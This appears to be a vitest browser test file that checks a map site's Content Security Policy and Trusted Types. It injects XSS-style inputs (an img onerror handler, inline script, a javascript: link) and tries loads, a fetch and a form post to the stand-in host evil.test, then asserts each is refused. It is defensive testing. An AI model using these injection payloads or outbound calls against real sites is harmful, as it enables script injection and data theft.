import { describe, expect, inject, it } from 'vitest';
import { visit, visitMap, withBrowser } from './driver.ts';

withBrowser();

const EXPECTED = { areViolationsExpected: true, expectedErrors: [/./] };

/** In the page: whether a script that came in by one of these ways has run. */
const hasRun = () => (window as { __pwned?: boolean }).__pwned === true;

describe('what the policy refuses', () => {
  it.each<[string, RegExp, () => void]>([
    [
      'HTML of a text',
      /require-trusted-types-for/,
      () => {
        try {
          document.body.innerHTML = '<img src=x onerror="window.__pwned = true">';
        } catch {
          // Refused, as it should be; the test reads the violation.
        }
      },
    ],
    [
      'a script in the page',
      /require-trusted-types-for|script-src/,
      () => document.body.append(Object.assign(document.createElement('script'), { text: 'window.__pwned = true' })),
    ],
    [
      'a handler in an attribute',
      /require-trusted-types-for|script-src/,
      () => {
        const image = document.createElement('img');
        image.setAttribute('onerror', 'window.__pwned = true');
        image.src = '/nulle-part.png';
        document.body.append(image);
      },
    ],
    [
      'a javascript: link',
      /script-src|trusted-types/,
      () => {
        const link = Object.assign(document.createElement('a'), { href: 'javascript:void (window.__pwned = true)' });
        document.body.append(link);
        link.click();
      },
    ],
    [
      'an image of another host',
      /img-src/,
      () => document.body.append(Object.assign(document.createElement('img'), { src: 'https://evil.test/x.png' })),
    ],
    ['data sent to another host', /connect-src/, () => void fetch('https://evil.test/').catch(() => undefined)],
    [
      'a form to another host',
      /form-action/,
      () => {
        const form = Object.assign(document.createElement('form'), { action: 'https://evil.test/', method: 'post' });
        document.body.append(form);
        form.submit();
      },
    ],
    [
      'a base that moves every link',
      /base-uri/,
      () => document.head.append(Object.assign(document.createElement('base'), { href: 'https://evil.test/' })),
    ],
    ['a style in an attribute', /style-src/, () => document.body.setAttribute('style', 'background: red')],
    [
      'another policy of Trusted Types',
      /trusted-types/,
      () => {
        try {
          window.trustedTypes?.createPolicy('mine', {});
        } catch {
          // As above.
        }
      },
    ],
    [
      'a worker that is not the site’s',
      /require-trusted-types-for/,
      () => void navigator.serviceWorker.register('/assets/sw.js').catch(() => undefined),
    ],
  ])('%s', async (_, directive, attack) => {
    const atlas = await visitMap('/', EXPECTED);
    await atlas.page.evaluate(attack);
    await expect.poll(() => atlas.violations.length).toBeGreaterThan(0);
    expect(atlas.violations.join('\n')).toMatch(directive);
    expect(await atlas.page.evaluate(hasRun)).toBe(false);
  });

  it('to be framed by another page', async () => {
    const body = `<!doctype html><iframe src="${inject('siteAddress')}/label"></iframe>`;
    const atlas = await visit('/autre-site', {
      ...EXPECTED,
      answers: { '/autre-site': { body, contentType: 'text/html' } },
    });
    const frame = atlas.page.frames()[1]!;
    expect(await frame.locator('h1').count()).toBe(0);
  });
});

describe('a page of a host that sends no header', () => {
  it('has the policy in itself', async () => {
    const html = await (await fetch(`${inject('siteAddress')}/label`)).text();
    const atlas = await visit('/label', {
      ...EXPECTED,
      answers: { '/label': { body: html, contentType: 'text/html' } },
    });
    await atlas.page.getByRole('heading', { level: 1 }).waitFor();
    expect(atlas.violations).toEqual([]);
    await atlas.page.evaluate(() => void fetch('https://evil.test/').catch(() => undefined));
    await expect.poll(() => atlas.violations.join()).toMatch(/connect-src/);
  });
});

describe('the map under the policy', () => {
  it('goes deep and back over tiles that come and go, with nothing refused', async () => {
    const atlas = await visitMap('/?carte=48.1,-1.7,8');
    await atlas.button('Fond Plan IGN').click();
    await atlas.page.locator('.map[data-has-tiles]').waitFor();
    for (const name of ['Zoomer', 'Zoomer', 'Zoomer', 'Déplacer vers la gauche', 'Dézoomer', "Vue d'ensemble"]) {
      await atlas.button(name).click();
      await atlas.settle();
    }
    await atlas.button('Fond Plan IGN').click();
    await expect.poll(() => atlas.page.locator('.leaflet-tile').count()).toBe(0);
    expect(atlas.violations).toEqual([]);
  });
});
